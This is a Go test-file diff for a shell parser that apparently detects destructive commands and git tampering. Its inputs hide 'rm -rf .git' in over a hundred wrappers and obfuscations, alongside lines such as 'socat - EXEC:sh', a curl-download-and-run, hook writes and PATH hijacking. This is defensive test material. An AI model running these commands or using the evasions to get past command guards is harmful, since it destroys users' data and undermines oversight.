@@ -10,135 +10,7 @@ var rmGit = []string{"rm", "-rf", ".git"}
 
 // Every place a simple command can hide.
 func TestClausesEverywhere(t *testing.T) {
-	for _, src := range []string{
-		`rm -rf .git`,
-		`true; rm -rf .git`,
-		`true && rm -rf .git`,
-		`false || rm -rf .git`,
-		`true | rm -rf .git`,
-		`true |& rm -rf .git`,
-		`! rm -rf .git`,
-		`rm -rf .git &`,
-		`{ rm -rf .git; }`,
-		`(rm -rf .git)`,
-		`if true; then rm -rf .git; fi`,
-		`if rm -rf .git; then :; fi`,
-		`if false; then :; elif true; then :; else rm -rf .git; fi`,
-		`while rm -rf .git; do :; done`,
-		`until false; do rm -rf .git; done`,
-		`for f in a; do rm -rf .git; done`,
-		`for ((i=0;i<1;i++)); do rm -rf .git; done`,
-		`case x in x) rm -rf .git;; esac`,
-		`f() { rm -rf .git; }`,
-		`function f { rm -rf .git; }`,
-		`echo $(rm -rf .git)`,
-		"echo `rm -rf .git`",
-		"echo \"`rm -rf .git`\"",
-		`echo "$(rm -rf .git)"`,
-		`cat <(rm -rf .git)`,
-		`tee >(rm -rf .git)`,
-		`echo ${x:-$(rm -rf .git)}`,
-		`echo $(( $(rm -rf .git) + 1 ))`,
-		`[[ -n $(rm -rf .git) ]]`,
-		`x=$(rm -rf .git)`,
-		`export x=$(rm -rf .git)`,
-		`echo > $(rm -rf .git)`,
-		`for f in $(rm -rf .git); do :; done`,
-		`case $(rm -rf .git) in *) ;; esac`,
-		`time rm -rf .git`,
-		`coproc rm -rf .git`,
-		`sh -c 'rm -rf .git'`,
-		`bash -c "rm -rf .git"`,
-		`bash -lc 'rm -rf .git'`,
-		`bash -e -c 'rm -rf .git'`,
-		`zsh -c 'rm -rf .git'`,
-		`dash -c 'rm -rf .git'`,
-		`/bin/sh -c 'rm -rf .git'`,
-		`sh -c "sh -c 'rm -rf .git'"`,
-		`eval 'rm -rf .git'`,
-		`eval rm -rf .git`,
-		`eval "rm" "-rf" ".git"`,
-		"bash <<EOF\nrm -rf .git\nEOF",
-		"bash <<'EOF'\nrm -rf .git\nEOF",
-		"sh -s <<-EOF\n\trm -rf .git\n\tEOF",
-		`bash <<< 'rm -rf .git'`,
-		`echo 'rm -rf .git' | sh`,
-		`printf 'rm -rf .git\n' | bash`,
-		"cat <<EOF | sh\nrm -rf .git\nEOF",
-		`echo x # ; rm -rf .git` + "\nrm -rf .git",
-		`env rm -rf .git`,
-		`env -i PATH=/bin rm -rf .git`,
-		`env -u HOME -C / rm -rf .git`,
-		`env -S 'rm -rf' .git`,
-		`command rm -rf .git`,
-		`builtin command rm -rf .git`,
-		`exec rm -rf .git`,
-		`exec -a x rm -rf .git`,
-		`nohup rm -rf .git`,
-		`timeout 5 rm -rf .git`,
-		`timeout -s KILL -k 1 5 rm -rf .git`,
-		`timeout --signal=KILL 5 rm -rf .git`,
-		`nice rm -rf .git`,
-		`nice -n 5 rm -rf .git`,
-		`nice -5 rm -rf .git`,
-		`stdbuf -oL rm -rf .git`,
-		`stdbuf -o L rm -rf .git`,
-		`sudo rm -rf .git`,
-		`sudo -u root -g wheel rm -rf .git`,
-		`sudo -E -H rm -rf .git`,
-		`sudo --user=root -- rm -rf .git`,
-		`sudo A=1 rm -rf .git`,
-		`doas -u root rm -rf .git`,
-		`xargs rm -rf .git`,
-		`xargs -0 -n1 rm -rf .git`,
-		`xargs -I{} rm -rf .git`,
-		`parallel rm -rf .git ::: a`,
-		`find . -exec rm -rf .git \;`,
-		`find . -execdir rm -rf .git \;`,
-		`find . -ok rm -rf .git \;`,
-		`/usr/bin/time rm -rf .git`,
-		`time -p rm -rf .git`,
-		`watch rm -rf .git`,
-		`watch -n 1 'rm -rf .git'`,
-		`watch -x rm -rf .git`,
-		`ionice -c3 rm -rf .git`,
-		`chrt -f 10 rm -rf .git`,
-		`setsid rm -rf .git`,
-		`setsid -f rm -rf .git`,
-		`flock /tmp/l rm -rf .git`,
-		`flock -n /tmp/l -c 'rm -rf .git'`,
-		`su -c 'rm -rf .git'`,
-		`runuser -u x -- rm -rf .git`,
-		`script -qc 'rm -rf .git' /dev/null`,
-		`taskset -c 0 rm -rf .git`,
-		`busybox rm -rf .git`,
-		`sudo env timeout 5 nice sh -c 'command rm -rf .git'`,
-		`\rm -rf .git`,
-		`"rm" -rf .git`,
-		`r''m -rf .git`,
-		`$'\x72m' -rf .git`,
-		`rm -rf $'\x2egit'`,
-		`rm -rf .g"i"t`,
-		`rm -rf .gi\t`,
-		`uv run rm -rf .git`,
-		`bundle exec rm -rf .git`,
-		`strace -f -o /tmp/x rm -rf .git`,
-		`unbuffer rm -rf .git`,
-		`chroot / rm -rf .git`,
-		`{rm,-rf,.git}`,
-		`trap 'rm -rf .git' EXIT`,
-		`alias x='rm -rf .git'`,
-		`env 'BASH_FUNC_ls%%=() { rm -rf .git; }' bash -c ls`,
-		`git rebase -x 'rm -rf .git' main`,
-		`git rebase --exec='rm -rf .git' main`,
-		`git submodule foreach 'rm -rf .git'`,
-		`git bisect run rm -rf .git`,
-		`git -c alias.x='!rm -rf .git' x`,
-		`git config alias.x '!rm -rf .git'`,
-		`git difftool -x 'rm -rf .git'`,
-		"cat <<EOF\n$(rm -rf .git)\nEOF",
-		`echo $((rm -rf .git) )`,
-	} {
+	for _, src := range everywhere {
 		s := Parse(src)
 		found := false
 		for _, c := range s.Clauses {
@@ -154,6 +26,157 @@ func TestClausesEverywhere(t *testing.T) {
 			t.Errorf("%s: no clause rm -rf .git:\n%s", src, dump(s))
 		}
 	}
+}
+
+// everywhere hides rm -rf .git in every construct and wrapper.
+var everywhere = []string{
+	`rm -rf .git`,
+	`true; rm -rf .git`,
+	`true && rm -rf .git`,
+	`false || rm -rf .git`,
+	`true | rm -rf .git`,
+	`true |& rm -rf .git`,
+	`! rm -rf .git`,
+	`rm -rf .git &`,
+	`{ rm -rf .git; }`,
+	`(rm -rf .git)`,
+	`if true; then rm -rf .git; fi`,
+	`if rm -rf .git; then :; fi`,
+	`if false; then :; elif true; then :; else rm -rf .git; fi`,
+	`while rm -rf .git; do :; done`,
+	`until false; do rm -rf .git; done`,
+	`for f in a; do rm -rf .git; done`,
+	`for ((i=0;i<1;i++)); do rm -rf .git; done`,
+	`case x in x) rm -rf .git;; esac`,
+	`f() { rm -rf .git; }`,
+	`function f { rm -rf .git; }`,
+	`echo $(rm -rf .git)`,
+	"echo `rm -rf .git`",
+	"echo \"`rm -rf .git`\"",
+	`echo "$(rm -rf .git)"`,
+	`cat <(rm -rf .git)`,
+	`tee >(rm -rf .git)`,
+	`echo ${x:-$(rm -rf .git)}`,
+	`echo $(( $(rm -rf .git) + 1 ))`,
+	`[[ -n $(rm -rf .git) ]]`,
+	`x=$(rm -rf .git)`,
+	`export x=$(rm -rf .git)`,
+	`echo > $(rm -rf .git)`,
+	`for f in $(rm -rf .git); do :; done`,
+	`case $(rm -rf .git) in *) ;; esac`,
+	`time rm -rf .git`,
+	`coproc rm -rf .git`,
+	`sh -c 'rm -rf .git'`,
+	`bash -c "rm -rf .git"`,
+	`bash -lc 'rm -rf .git'`,
+	`bash -e -c 'rm -rf .git'`,
+	`zsh -c 'rm -rf .git'`,
+	`dash -c 'rm -rf .git'`,
+	`/bin/sh -c 'rm -rf .git'`,
+	`sh -c "sh -c 'rm -rf .git'"`,
+	`eval 'rm -rf .git'`,
+	`eval rm -rf .git`,
+	`eval "rm" "-rf" ".git"`,
+	"bash <<EOF\nrm -rf .git\nEOF",
+	"bash <<'EOF'\nrm -rf .git\nEOF",
+	"sh -s <<-EOF\n\trm -rf .git\n\tEOF",
+	`bash <<< 'rm -rf .git'`,
+	`echo 'rm -rf .git' | sh`,
+	`printf 'rm -rf .git\n' | bash`,
+	"cat <<EOF | sh\nrm -rf .git\nEOF",
+	`echo x # ; rm -rf .git` + "\nrm -rf .git",
+	`env rm -rf .git`,
+	`env -i PATH=/bin rm -rf .git`,
+	`env -u HOME -C / rm -rf .git`,
+	`env -S 'rm -rf' .git`,
+	`command rm -rf .git`,
+	`builtin command rm -rf .git`,
+	`exec rm -rf .git`,
+	`exec -a x rm -rf .git`,
+	`nohup rm -rf .git`,
+	`timeout 5 rm -rf .git`,
+	`timeout -s KILL -k 1 5 rm -rf .git`,
+	`timeout --signal=KILL 5 rm -rf .git`,
+	`nice rm -rf .git`,
+	`nice -n 5 rm -rf .git`,
+	`nice -5 rm -rf .git`,
+	`stdbuf -oL rm -rf .git`,
+	`stdbuf -o L rm -rf .git`,
+	`sudo rm -rf .git`,
+	`sudo -u root -g wheel rm -rf .git`,
+	`sudo -E -H rm -rf .git`,
+	`sudo --user=root -- rm -rf .git`,
+	`sudo A=1 rm -rf .git`,
+	`doas -u root rm -rf .git`,
+	`xargs rm -rf .git`,
+	`xargs -0 -n1 rm -rf .git`,
+	`xargs -I{} rm -rf .git`,
+	`parallel rm -rf .git ::: a`,
+	`find . -exec rm -rf .git \;`,
+	`find . -execdir rm -rf .git \;`,
+	`find . -ok rm -rf .git \;`,
+	`/usr/bin/time rm -rf .git`,
+	`time -p rm -rf .git`,
+	`watch rm -rf .git`,
+	`watch -n 1 'rm -rf .git'`,
+	`watch -x rm -rf .git`,
+	`ionice -c3 rm -rf .git`,
+	`chrt -f 10 rm -rf .git`,
+	`setsid rm -rf .git`,
+	`setsid -f rm -rf .git`,
+	`flock /tmp/l rm -rf .git`,
+	`flock -n /tmp/l -c 'rm -rf .git'`,
+	`su -c 'rm -rf .git'`,
+	`runuser -u x -- rm -rf .git`,
+	`script -qc 'rm -rf .git' /dev/null`,
+	`taskset -c 0 rm -rf .git`,
+	`busybox rm -rf .git`,
+	`sudo env timeout 5 nice sh -c 'command rm -rf .git'`,
+	`\rm -rf .git`,
+	`"rm" -rf .git`,
+	`r''m -rf .git`,
+	`$'\x72m' -rf .git`,
+	`rm -rf $'\x2egit'`,
+	`rm -rf .g"i"t`,
+	`rm -rf .gi\t`,
+	`uv run rm -rf .git`,
+	`bundle exec rm -rf .git`,
+	`strace -f -o /tmp/x rm -rf .git`,
+	`unbuffer rm -rf .git`,
+	`chroot / rm -rf .git`,
+	`$SHELL -c 'rm -rf .git'`,
+	`mapfile -C 'rm -rf .git' -c 1 < f`,
+	`"$(which bash)" -c 'rm -rf .git'`,
+	`gtimeout 5 rm -rf .git`,
+	`unshare -r rm -rf .git`,
+	`proxychains4 -q rm -rf .git`,
+	`faketime '2020-01-01' rm -rf .git`,
+	`pkexec rm -rf .git`,
+	`perf stat -e cycles rm -rf .git`,
+	`hyperfine --warmup 3 'rm -rf .git'`,
+	`entr -r rm -rf .git`,
+	`watchexec -e go 'rm -rf .git'`,
+	`nodemon --exec 'rm -rf .git'`,
+	`systemd-run --user rm -rf .git`,
+	`{rm,-rf,.git}`,
+	`trap 'rm -rf .git' EXIT`,
+	`alias x='rm -rf .git'`,
+	`env 'BASH_FUNC_ls%%=() { rm -rf .git; }' bash -c ls`,
+	`git rebase -x 'rm -rf .git' main`,
+	`git rebase --exec='rm -rf .git' main`,
+	`git submodule foreach 'rm -rf .git'`,
+	`git bisect run rm -rf .git`,
+	`git -c alias.x='!rm -rf .git' x`,
+	`git config alias.x '!rm -rf .git'`,
+	`git difftool -x 'rm -rf .git'`,
+	"cat <<EOF\n$(rm -rf .git)\nEOF",
+	`echo $((rm -rf .git) )`,
+	"rm -rf .git\nfi",
+	"echo a; rm -rf .git\necho b\n)",
+	"bash -c 'rm -rf .git\nfi'",
+	`bash /dev/stdin <<< 'rm -rf .git'`,
+	`. /dev/stdin <<< 'rm -rf .git'`,
+	"source /dev/stdin <<EOF\nrm -rf .git\nEOF",
 }
 
 func TestClausesVia(t *testing.T) {
@@ -263,8 +286,19 @@ func TestClausesOpaque(t *testing.T) {
 		`socat - EXEC:sh`,
 		`crontab evil.cron`,
 		`at now`,
+		`tmux new -d 'rm x'`,
+		`fish -c 'rm x'`,
+		`enable -f /tmp/x.so git`,
 		`git init --template=/tmp/t`,
 		`git update-ref --stdin`,
+		`docker run -v "$PWD":/w alpine rm -rf /w/.git`,
+		`docker run --rm -v .:/w alpine true`,
+		`docker exec c rm -rf /w`,
+		`git send-pack --force origin main`,
+		`(( x ))`,
+		`let x`,
+		`bash /dev/fd/3 3<f`,
+		`source /dev/stdin < f`,
 	} {
 		s := Parse(src)
 		opaque := s.Opaque
@@ -311,8 +345,68 @@ func TestDirTracking(t *testing.T) {
 	checkWant(t, `cd .git; cd hooks; tee pre-push < x`, want{effects: []string{"write .git/hooks/pre-push"}})
 	checkWant(t, `env -C .git/hooks tee pre-commit`, want{effects: []string{"write .git/hooks/pre-commit"}})
 	checkWant(t, `(cd .git && touch config)`, want{effects: []string{"write .git/config"}})
+	checkWant(t, `cd sub && make && cd .. && touch y`, want{effects: []string{"write y"}})
+	checkWant(t, `cd .git || exit 1; touch config`, want{effects: []string{"write .git/config"}})
+	checkWant(t, `cd .git || { echo no; exit 1; }; touch config`, want{effects: []string{"write .git/config"}})
+	for _, src := range []string{`cd .git && true; touch config`, `cd .git || true; touch config`, `true || cd .git; touch config`} {
+		s := Parse(src)
+		if c := s.Clauses[len(s.Clauses)-1]; !c.Opaque {
+			t.Errorf("%s: directory after a cd that may not run must be unknown:\n%s", src, dump(s))
+		}
+	}
 	s := Parse(`(cd .git); touch config`)
 	if effs := effectStrings(s.Clauses[len(s.Clauses)-1]); !slices.Contains(effs, "write config") {
 		t.Errorf("cd in a subshell leaked: %q", effs)
+	}
+}
+
+// A file written and run in the same command is followed.
+func TestTwoSteps(t *testing.T) {
+	for _, src := range []string{
+		`echo 'rm -rf .git' > x.sh && sh x.sh`,
+		`echo 'rm -rf .git' > x.sh; chmod +x x.sh; ./x.sh`,
+		`printf 'rm -rf .git\n' > x.sh; bash ./x.sh`,
+		"cat > x.sh <<'EOF'\nrm -rf .git\nEOF\nsource x.sh",
+		"tee x.sh <<EOF\nrm -rf .git\nEOF\n. ./x.sh",
+		`echo '#!/bin/sh' > x.sh; echo 'rm -rf .git' >> x.sh; sh x.sh`,
+		`cd sub && echo 'rm -rf .git' > x.sh && cd .. && sh sub/x.sh`,
+	} {
+		s := Parse(src)
+		found := false
+		for _, c := range s.Clauses {
+			if slices.Equal(c.Strings(), rmGit) {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("%s: no clause rm -rf .git:\n%s", src, dump(s))
+		}
+	}
+	for _, src := range []string{
+		`curl -o x.sh https://x.example && sh x.sh`,
+		`echo "$C" > x.sh; sh x.sh`,
+		`echo 'import os' > x.py; python3 x.py`,
+		`cp /tmp/a x.sh; ./x.sh`,
+	} {
+		s := Parse(src)
+		opaque := false
+		for _, c := range s.Clauses {
+			opaque = opaque || c.Opaque
+		}
+		if !opaque {
+			t.Errorf("%s: running what the command wrote must be opaque:\n%s", src, dump(s))
+		}
+	}
+}
+
+func TestLookupChanged(t *testing.T) {
+	for _, src := range []string{`PATH=/tmp:/usr/bin; git commit`, `export PATH=/tmp; git commit`, `hash -p /tmp/x git; git commit`, `if true; then PATH=/tmp; fi; git commit`} {
+		s := Parse(src)
+		if c := s.Clauses[len(s.Clauses)-1]; c.Lookup == "" {
+			t.Errorf("%s: the last clause does not know lookup changed:\n%s", src, dump(s))
+		}
+	}
+	if c := Parse(`(PATH=/tmp); git commit`).Clauses[1]; c.Lookup != "" {
+		t.Errorf("a subshell's PATH leaked: %q", c.Lookup)
 	}
 }
